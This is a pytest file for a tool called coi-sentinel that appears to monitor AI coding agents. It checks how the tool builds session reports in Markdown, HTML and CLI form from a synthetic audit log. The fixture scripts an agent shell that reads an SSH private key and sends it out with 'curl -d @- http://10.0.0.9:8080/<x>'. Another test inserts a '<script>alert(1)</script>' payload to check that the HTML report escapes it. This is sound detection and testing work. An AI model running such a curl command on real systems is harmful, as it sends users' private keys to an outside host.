"""The session report: its model from an audit log written by the real AuditLog, the Markdown
and HTML renderings, and `coi-sentinel report` through the real entry point."""

from __future__ import annotations

import os
import re
import stat
from dataclasses import fields
from typing import Any

import orjson
import pytest

from coi_sentinel.audit import AuditLog, AuditPolicy
from coi_sentinel.cli.main import main
from coi_sentinel.events import codec, model
from coi_sentinel.events.types import EVENT_TYPE_BY_LABEL
from coi_sentinel.report import build
from coi_sentinel.report import html as html_mod
from coi_sentinel.report import markdown
from coi_sentinel.trace import make_header

pytestmark = pytest.mark.unit

SCOPE = 44
T0 = 5_000_000_000


def ev(etype: str, i: int, pid: int, ppid: int, comm: str = "sh", **specific: Any) -> model.Event:
    d = {"type": etype, "ts_ns": T0 + i * 10_000_000, "pid": pid, "tid": pid, "ppid": ppid,
         "uid": 1000, "gid": 1000, "comm": comm, "cgroup_id": SCOPE + 1, "scope_id": SCOPE,
         "container": "coi-test-1", **specific}
    for f in fields(model.EVENT_CLASSES[EVENT_TYPE_BY_LABEL[etype]]):
        d.setdefault(f.name, {"int": 0, "str": "", "bool": False}.get(str(f.type), ()))
    return codec.from_dict(d)


def exec_ev(i: int, pid: int, ppid: int, *argv: str) -> model.Event:
    return ev("exec", i, pid, ppid, comm=argv[0][:15], filename=f"/usr/bin/{argv[0]}",
              argv=list(argv), argc=len(argv), errno=0, fd=-100, flags=0)


@pytest.fixture
def session_log(tmp_path):
    """A session: the agent (pid 10) runs a shell (11) that writes files, reads a key and sends
    it with curl (12), which a rule kills; then the kernel lost 3 events."""
    path = tmp_path / "coi-test-1.jsonl"
    policy = AuditPolicy(fsync=False, max_bytes=None, max_age=None, retention=None)
    header = make_header("run", session="coi-test-1", tool="claude", network="restricted",
                         workspace="/home/u/project")
    with AuditLog(path, header, policy=policy, events="all") as log:
        log.write_record({"record": "monitor", "event": "start", "rules": 40})
        for e in [
            exec_ev(0, 10, 1, "node", "agent.js"),
            ev("fork", 1, 10, 1, comm="node", child_pid=11, clone_flags=0),
            exec_ev(2, 11, 10, "sh", "-c", "make build"),
            ev("file_write", 3, 11, 10, path="/workspace/src/main.c", kind="write", opens=1,
               writes=3, bytes=300, failed=False, first_ts_ns=T0),
            ev("file_write", 4, 11, 10, path="/workspace/src/util.c", kind="write", opens=2,
               writes=1, bytes=100, failed=False, first_ts_ns=T0),
            ev("rename", 5, 11, 10, oldpath="/workspace/build/.tmp1", newpath="/workspace/build/app",
               flags=0, errno=0),
            ev("chmod", 6, 11, 10, path="/workspace/build/app", fd=-1, mode=0o755, errno=0),
            ev("file_open", 7, 11, 10, path="/home/u/.ssh/id_ed25519", flags=0, mode=0, fd=3,
               errno=0, kind="sensitive", dirfd=-100),
            ev("fork", 8, 11, 10, child_pid=12, clone_flags=0),
            exec_ev(9, 12, 11, "curl", "-d", "@-", "http://10.0.0.9:8080/<x>"),
            ev("connect", 10, 12, 11, comm="curl", fd=4, family="inet", daddr="10.0.0.9",
               dport=8080, errno=0),
            ev("net_send", 11, 12, 11, comm="curl", fd=4, bytes=4096, calls=2, family="inet",
               daddr="10.0.0.9", dport=8080, first_ts_ns=T0),
            ev("connect", 12, 11, 10, fd=5, family="inet6", daddr="2001:db8::1", dport=443,
               errno=101),
        ]:
            log.write_event(e)
        log.write_alert({"type": "alert", "ts_ns": T0 + 110_000_000, "rule": "exfil_secret",
                         "severity": "critical", "scope_id": SCOPE,
                         "output": "Secret sent <script>alert(1)</script>",
                         "session": {"id": "coi-test-1", "tool": "claude"},
                         "process": {"pid": 12, "ppid": 11, "name": "curl", "exe": "/usr/bin/curl",
                                     "cmdline": "curl -d @- http://10.0.0.9:8080/<x>"},
                         "ancestry": [{"pid": 11, "name": "sh", "cmdline": "sh -c make build"},
                                      {"pid": 10, "name": "node", "cmdline": "node agent.js"}],
                         "source": "rules/exfiltration.yaml:16"})
        log.write_alert({"type": "alert", "ts_ns": T0 + 70_000_000, "rule": "ssh_key_read",
                         "severity": "high", "scope_id": SCOPE, "output": "SSH key read",
                         "process": {"pid": 11, "name": "sh", "cmdline": "sh -c make build"},
                         "ancestry": []})
        log.write_action({"action": "kill-process", "by": "rules", "rule": "exfil_secret",
                          "severity": "critical", "container": "coi-test-1", "pid": 12,
                          "process": {"name": "curl"}, "killed_pids": [12], "ok": True,
                          "latency_ns": 1_250_000, "ts_ns": T0 + 111_250_000})
        log.write_event(ev("exit", 13, 12, 11, comm="curl", exit_code=-1, signal=9))
        log.write_record({"record": "drops", "source": "kernel", "counts": {"file_write": 3}})
    return path


def test_model_of_a_session(session_log):
    rep = build([session_log])
    s = rep.summary
    assert (s.session, s.agent, s.network, s.workspace) == ("coi-test-1", "claude", "restricted",
                                                            "/home/u/project")
    assert s.chain.ok and s.chain.text.startswith("intact: ")
    assert s.alerts_by_severity == {"critical": 1, "high": 1}
    assert s.verdict_level == "stopped" and "kill-process" in s.verdict
    assert [a.rule for a in rep.alerts] == ["ssh_key_read", "exfil_secret"]     # by time
    # the tree: node 10 -> sh 11 -> curl 12; curl raised the critical alert and was killed
    by_pid = {p.pid: p for p in rep.procs.values()}
    assert [by_pid[10].node] == [n for n in rep.roots if rep.procs[n].pid == 10]
    sh, curl = by_pid[11], by_pid[12]
    assert rep.procs[sh.parent].pid == 10 and rep.procs[curl.parent].pid == 11
    assert curl.alerts == ["exfil_secret"] and curl.actions == ["kill-process"]
    assert curl.cmdline == "curl -d @- http://10.0.0.9:8080/<x>" and curl.exited == "signal 9"
    assert sh.alerts == ["ssh_key_read"]
    [dest, failed] = rep.destinations
    assert (dest.label, dest.connects, dest.bytes_sent, list(dest.processes)) == (
        "10.0.0.9:8080", 1, 4096, ["curl(12)"])
    assert (failed.label, failed.failed) == ("[2001:db8::1]:443", 1)
    assert list(rep.files_by_dir) == ["/workspace/build", "/workspace/src"]
    src = {f.path: f for f in rep.files_by_dir["/workspace/src"]}
    assert src["/workspace/src/main.c"].bytes == 300 and src["/workspace/src/util.c"].opens == 2
    [app] = rep.files_by_dir["/workspace/build"]
    assert app.ops == ["renamed from /workspace/build/.tmp1", "chmod 0755"]
    [secret] = rep.secrets
    assert (secret.path, secret.pid, secret.process) == ("/home/u/.ssh/id_ed25519", 11, "sh")
    [act] = rep.actions
    assert (act.action, act.latency_ms, act.target, act.ok) == ("kill-process", 1.25, "curl(12)", True)
    assert rep.drops == ["kernel: 3 events lost (file_write 3)"]


def test_markdown_has_every_section(session_log):
    text = markdown.render(build([session_log]))
    for heading in ("## Alerts (2)", "## Actions (1)", "## Process tree (3 processes)",
                    "## Network destinations (2)", "## Files written (3)", "## Secrets read (1)",
                    "## Drops"):
        assert heading in text
    assert ("└─ node 10  node agent.js\n"
            "   └─ sh 11  sh -c make build  !! ssh_key_read\n"
            "      └─ curl 12  curl -d @- http://10.0.0.9:8080/<x>  !! exfil_secret  [kill-process]"
            "  (signal 9)\n") in text
    assert "| 10.0.0.9:8080 | 1 | 0 | 4.0 KiB | curl(12) |" in text


def test_html_is_self_contained_and_escapes_the_log(session_log):
    page = html_mod.render(build([session_log]))
    assert "<script>alert(1)</script>" not in page
    assert "Secret sent &lt;script&gt;alert(1)&lt;/script&gt;" in page
    # nothing is fetched: no src/href attributes, stylesheet links, imports or url()
    assert not re.search(r"\s(src|href)\s*=|<link\b|@import|\burl\(", page)
    assert page.count('<tr class="alert ') == 2
    assert re.search(r'<li class="proc alerting sev-critical" data-pid="12"', page)
    assert '<tr class="action" data-action="kill-process"' in page


def test_a_damaged_log_says_so(session_log):
    lines = session_log.read_bytes().splitlines(keepends=True)
    lines[5] = lines[5].replace(b'"pid":11', b'"pid":66')
    session_log.write_bytes(b"".join(lines))
    rep = build([session_log])
    assert not rep.summary.chain.ok and rep.summary.verdict_level == "broken"
    assert rep.summary.chain.text.startswith("BROKEN: ") and "edited" in rep.summary.chain.text


def test_cli_writes_the_page_and_prints_markdown(session_log, tmp_path, capsys):
    out = tmp_path / "r" / "report.html"
    with pytest.raises(SystemExit) as exc:
        main(["report", str(session_log), "-o", str(out)])
    assert exc.value.code == 0
    assert capsys.readouterr().out == f"{out}\n"
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    assert out.read_text().startswith("<!DOCTYPE html>")
    with pytest.raises(SystemExit) as exc:
        main(["report", "coi-test-1", "--log-dir", str(session_log.parent), "--format", "md"])
    assert exc.value.code == 0
    assert capsys.readouterr().out.startswith("# coi-sentinel report: coi-test-1\n")
    with pytest.raises(SystemExit) as exc:
        main(["report", str(session_log), "--json"])
    assert exc.value.code == 0
    data = orjson.loads(capsys.readouterr().out)
    assert data["summary"]["verdict_level"] == "stopped" and len(data["processes"]) == 3


def test_cli_default_place_is_the_state_dir(session_log, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    with pytest.raises(SystemExit) as exc:
        main(["report", "coi-test-1", "--log-dir", str(session_log.parent)])
    assert exc.value.code == 0
    path = tmp_path / "state/coi-sentinel/reports/coi-test-1.html"
    assert capsys.readouterr().out == f"{path}\n" and path.is_file()
    with pytest.raises(SystemExit) as exc:
        main(["report", "no-such-session", "--log-dir", str(session_log.parent)])
    assert exc.value.code == 1
    assert "no audit log for session 'no-such-session'" in capsys.readouterr().err
